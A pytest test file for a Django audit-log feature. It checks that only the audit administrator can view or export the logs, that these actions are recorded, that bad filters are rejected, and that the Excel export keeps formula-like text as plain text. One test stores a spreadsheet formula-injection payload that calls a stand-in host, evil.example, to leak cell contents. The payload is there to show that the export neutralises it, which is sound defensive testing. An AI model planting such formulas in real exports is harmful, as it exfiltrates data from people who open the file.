"""The audit administrator's pages: only they open them (三员分立: not the superuser, not the
security administrator), searches and exports are themselves recorded, and the Excel export keeps
formula-like text as text."""

from datetime import timedelta
from io import BytesIO

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from pingan.accounts.models import Role, User
from pingan.audit.models import AuditEntry
from pingan.audit.services import record
from pingan.core import clock
from tests.conftest import PASSWORD, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def auditor(db):
    return make_user("auditor", Role.AUDIT_ADMIN, display_name="审计员 郑工")


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def text(response) -> str:
    return response.content.decode()


@pytest.mark.parametrize(
    "path", ["/audit/", "/audit/export.xlsx", "/audit/1/", "/audit/?action=login"]
)
def test_only_the_audit_administrator_opens_the_audit(world, auditor, path):
    record(world.officer_a, "view_personal_data", "dispute", "JF-SECRET-1")
    others = [
        world.officer_a,
        world.commander,
        world.aux_a,
        world.citizen,
        User.objects.create_superuser("root", password=PASSWORD),
        make_user("sec", Role.SECURITY_ADMIN),
        make_user("sys", Role.SYSTEM_ADMIN),
    ]
    for user in others:
        response = logged_in(user).get(path)
        assert response.status_code == 403, user.username
        assert "只有审计管理员可以查阅审计日志" in text(response)
        assert "JF-SECRET-1" not in text(response)
        # The attempt is on the record.
        denied = AuditEntry.objects.filter(actor=user, action="audit_viewed", outcome="denied")
        assert denied.count() == 1, user.username
    anonymous = Client().get(path)
    assert anonymous.status_code == 302 and anonymous.url.startswith("/login/")
    assert logged_in(auditor).get(path).status_code == 200


def test_the_audit_is_not_in_the_django_admin(db):
    root = User.objects.create_superuser("root", password=PASSWORD)
    assert logged_in(root).get("/admin/audit/auditentry/").status_code == 404


def test_search_newest_first_and_its_own_entry(world, auditor):
    for i in range(3):
        record(world.officer_a, "view_personal_data", "dispute", f"JF-{i}", ip="10.0.0.7")
    response = logged_in(auditor).get("/audit/")
    assert response.status_code == 200
    body = text(response)
    assert body.index("JF-2") < body.index("JF-1") < body.index("JF-0")
    assert "查看个人信息" in body
    viewed = AuditEntry.objects.get(action="audit_viewed")
    # Three views and the auditor's own sign-in, as they were before this search.
    assert viewed.actor == auditor and viewed.detail["count"] == 4


def test_search_by_each_filter(world, auditor, monkeypatch):
    earlier = timezone.now() - timedelta(days=10)
    monkeypatch.setattr(clock, "now", lambda: earlier)
    record(world.commander, "export", "dispute_stats", "old-one", ip="10.0.0.1")
    monkeypatch.undo()
    record(world.officer_a, "view_personal_data", "dispute", "JF-A", ip="10.0.0.2")
    record(None, "login_failed", "account", "ghost", ip="10.0.0.3", outcome="failed")
    client = logged_in(auditor)

    def refs(query):
        response = client.get(f"/audit/?{query}")
        assert response.status_code == 200, text(response)
        return [row.object_ref for row in response.context["rows"]]

    assert refs("action=export") == ["old-one"]
    assert refs("actor=officer_a") == ["JF-A"]
    assert refs("actor=ghost") == ["ghost"]  # a failed sign-in, by the name tried
    assert refs("ip=10.0.0.2") == ["JF-A"]
    assert refs("object=JF-") == ["JF-A"]
    assert refs("outcome=failed") == ["ghost"]
    day = timezone.localtime(earlier).date().isoformat()
    assert refs(f"since={day}&until={day}") == ["old-one"]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("ip=10.0.0.999", "IP 地址格式不正确"),
        ("since=12/05/2026", "起始时间格式应为"),
        ("since=2026-12-05&until=2026-12-01", "截止时间不能早于起始时间"),
        ("action=drop_table", "操作的选项无效"),
    ],
)
def test_bad_filters_get_a_chinese_answer_and_no_results(auditor, query, message):
    client = logged_in(auditor)
    before = AuditEntry.objects.count()
    response = client.get(f"/audit/?{query}")
    assert response.status_code == 400
    assert message in text(response)
    assert AuditEntry.objects.count() == before


def test_pages_of_fifty(world, auditor):
    for i in range(55):
        record(None, "export", "stats", f"n{i}")
    client = logged_in(auditor)
    first = client.get("/audit/?action=export")
    assert len(first.context["rows"]) == 50 and "第 1 / 2 页" in text(first)
    second = client.get("/audit/?action=export&page=2")
    assert [r.object_ref for r in second.context["rows"]] == [f"n{i}" for i in range(4, -1, -1)]


def test_one_entry_in_full(world, auditor):
    entry = record(
        world.officer_a, "view_personal_data", "dispute", "JF-X", detail={"parties": [7]}
    )
    client = logged_in(auditor)
    response = client.get(f"/audit/{entry.seq}/")
    assert response.status_code == 200
    body = text(response)
    assert entry.mac in body and "JF-X" in body and "parties" in body
    assert AuditEntry.objects.filter(action="audit_viewed", object_ref=str(entry.seq)).exists()
    assert client.get("/audit/999999/").status_code == 404
    assert client.get(f"/audit/{2**70}/").status_code == 404


def test_the_export_keeps_formulas_as_text_and_is_recorded(world, auditor):
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    record(None, "login_failed", "account", payload[:64], detail={"username": payload})
    record(world.officer_a, "export", "stats", "+1+1", detail={"note": "@SUM(1)"})
    response = logged_in(auditor).get("/audit/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 3  # and the auditor's own sign-in
    cells = [cell for row in rows for cell in row if isinstance(cell.value, str)]
    risky = [c for c in cells if c.value[:1] in ("=", "+", "-", "@")]
    assert {c.value for c in risky} >= {payload[:64], "+1+1"}
    assert all(c.data_type == "s" for c in cells)  # never "f", a formula
    assert all(c.quotePrefix for c in risky)
    exported = AuditEntry.objects.get(action="audit_exported")
    assert exported.actor == auditor and exported.detail == {"filters": {}, "count": 3}


def test_the_export_follows_the_search(world, auditor):
    record(world.officer_a, "export", "stats", "keep")
    record(world.officer_a, "login", "account", "officer_a")
    response = logged_in(auditor).get("/audit/export.xlsx?action=export")
    sheet = load_workbook(BytesIO(response.content)).active
    assert [row[8].value for row in sheet.iter_rows(min_row=2)] == ["keep"]
    exported = AuditEntry.objects.get(action="audit_exported")
    assert exported.detail == {"filters": {"action": "export"}, "count": 1}
